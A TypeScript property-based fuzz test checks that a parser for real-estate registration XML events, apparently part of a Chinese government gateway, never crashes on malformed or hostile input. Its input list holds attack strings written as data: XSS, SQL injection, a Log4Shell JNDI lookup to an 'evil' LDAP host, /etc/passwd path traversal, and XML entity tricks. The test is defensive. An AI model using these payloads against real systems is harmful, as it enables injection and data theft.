import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import * as iconv from 'iconv-lite';
import { validateCanonicalEvent } from '#gw/case';
import type { DepartmentEntry } from '#gw/catalogue';
import type { ParseResult, RawInbound } from '../../department-adapter';
import { createAdapter, escapeXml } from './bdc.adapter';

const NOW = new Date('2026-11-01T00:00:00+08:00');
const BDC: DepartmentEntry = {
  code: 'BDC',
  name: '平江县不动产登记中心',
  orgCode: '12430626MB23456783',
  adapter: 'bdc',
  enabled: true,
  restricted: false,
};
const adapter = createAdapter(BDC, undefined as never);
const EXAMPLE = readFileSync(join(__dirname, '..', '..', '..', '..', '..', 'config', 'examples', 'bdc-event.xml'));

/** Values a hostile or broken sender might put anywhere. */
const hostile = fc.oneof(
  fc.constantFrom(
    '<script>alert(1)</script>',
    "'; DROP TABLE events; --",
    '" OR 1=1 --',
    '${jndi:ldap://evil/a}',
    '../../../../etc/passwd',
    '\u0000\u0001\u001f',
    '\uFFFD',
    '䶮𠮷',
    '\u202Egnp.exe',
    '\uD800',
    '__proto__',
    'constructor',
    'toString',
    '430626198503120041', // bad check digit
    '430626199902300027', // 30 February
    '430626850312004', // old 15-digit form
    '91350100M0001TGQXM', // pilot USCC failing its checksum
    '20261332250000',
    '20260230093000',
    '99991231235959',
    '19991231235959',
    '-1',
    '1e309',
    '',
    '   ',
    '&amp;&lt;&#x41;&#0;',
  ),
  fc.string({ maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.integer({ min: 300, max: 6000 }).map((n) => '长'.repeat(n)),
);

const FIELDS = ['SLBH', 'SBH', 'SXBM', 'SXMC', 'HJ', 'HJSJ', 'BLR', 'BLYJ', 'ZL', 'XZQH', 'BJJG', 'ZSH', 'LZ'] as const;
const HJ = ['收件', '受理', '审核', '登簿', '缴费', '缮证', '发证', '领证', '不予受理', '退件', '补正告知', '补正受理'];

const owner = fc.record({
  QLRMC: hostile,
  ZJZL: fc.oneof(fc.constantFrom('1', '2', '3', '6', '99', '0', ''), hostile),
  ZJH: hostile,
  DH: fc.oneof(fc.constantFrom('13800000000', '0730-6223456'), hostile),
});

/** A document of the BDC shape whose values are hostile, escaped (well-formed) or raw (maybe not). */
const document = fc
  .record({
    values: fc.record(
      Object.fromEntries(
        FIELDS.map((f) => [
          f,
          fc.option(f === 'HJ' ? fc.oneof(fc.constantFrom(...HJ), hostile) : hostile, { nil: undefined }),
        ]),
      ) as Record<(typeof FIELDS)[number], fc.Arbitrary<string | undefined>>,
    ),
    xxid: hostile,
    owners: fc.array(owner, { maxLength: 55 }),
    escape: fc.boolean(),
    charset: fc.constantFrom('gbk', 'GBK', 'gb2312', 'gb18030', 'utf-8'),
  })
  .map(({ values, xxid, owners, escape, charset }) => {
    const v = (s: string) => (escape ? escapeXml(s) : s);
    const ywxx =
      FIELDS.filter((f) => values[f] !== undefined)
        .map((f) => `<${f}>${v(values[f]!)}</${f}>`)
        .join('') +
      owners
        .map(
          (o) =>
            `<QLR>${Object.entries(o)
              .map(([k, x]) => `<${k}>${v(x)}</${k}>`)
              .join('')}</QLR>`,
        )
        .join('');
    const xml = `<?xml version="1.0" encoding="GBK"?><BDCSJ><HEAD><XXID>${v(xxid)}</XXID></HEAD><YWXX>${ywxx}</YWXX></BDCSJ>`;
    const enc = charset.toLowerCase().startsWith('utf') ? 'utf-8' : 'gb18030';
    return { body: iconv.encode(xml, enc), charset };
  });

const payload = fc.oneof(
  document,
  // the example truncated anywhere
  fc.nat(EXAMPLE.length).map((n) => ({ body: EXAMPLE.subarray(0, n), charset: 'gbk' as string | undefined })),
  // the example with a few bytes overwritten
  fc.tuple(fc.nat(EXAMPLE.length - 1), fc.uint8Array({ minLength: 1, maxLength: 8 })).map(([at, bytes]) => {
    const b = Buffer.from(EXAMPLE);
    b.set(bytes.subarray(0, b.length - at), at);
    return { body: b, charset: 'gbk' as string | undefined };
  }),
  // the example under a wrong or missing label
  fc.constantFrom('utf-8', 'latin1', 'big5', 'x-unknown', undefined).map((charset) => ({ body: EXAMPLE, charset })),
  // random bytes
  fc.uint8Array({ maxLength: 2048 }).map((b) => ({ body: Buffer.from(b), charset: 'gbk' as string | undefined })),
  // XML-ish noise: entity and DTD tricks, deep nesting, stray markup
  fc
    .array(
      fc.constantFrom(
        '<BDCSJ>',
        '</BDCSJ>',
        '<YWXX>',
        '</YWXX>',
        '<QLR>',
        '</QLR>',
        '<!DOCTYPE x>',
        '<!ENTITY a "b">',
        '&a;',
        '<![CDATA[',
        ']]>',
        '<?pi x?>',
        '<HJ>发证</HJ>',
        '<a b="c">',
        '</a>',
        '<!-- -->',
        '&#xD800;',
      ),
      { maxLength: 60 },
    )
    .map((parts) => ({ body: iconv.encode(parts.join(''), 'gb18030'), charset: 'gbk' as string | undefined })),
);

describe('BDC adapter under hostile payloads (property)', () => {
  it('never throws, and its output never makes validateCanonicalEvent throw', () => {
    fc.assert(
      fc.property(payload, ({ body, charset }) => {
        const raw: RawInbound = {
          department: 'BDC',
          mediaType: 'text/xml',
          charset,
          headers: {},
          body,
          receivedAt: NOW,
        };
        // Anything thrown fails the property, with the payload as counterexample.
        const result: ParseResult = adapter.parseEvent(raw);
        if (!result.ok) {
          assert.equal(typeof result.code, 'string');
          assert.equal(typeof result.message, 'string');
          return;
        }
        for (const i of result.event.issues) assert.equal(typeof adapter.sourceField(i.field), 'string');
        const { errors } = validateCanonicalEvent(result.event.event, NOW);
        for (const e of errors) assert.equal(typeof adapter.sourceField(e.field), 'string');
        const reply = adapter.formatReply!({
          httpStatus: 422,
          code: 'VALIDATION_FAILED',
          message: result.event.sourceEventId,
          errors,
        });
        assert.ok(Buffer.isBuffer(reply.body));
      }),
      { numRuns: 10_000 },
    );
  }, 60_000);
});
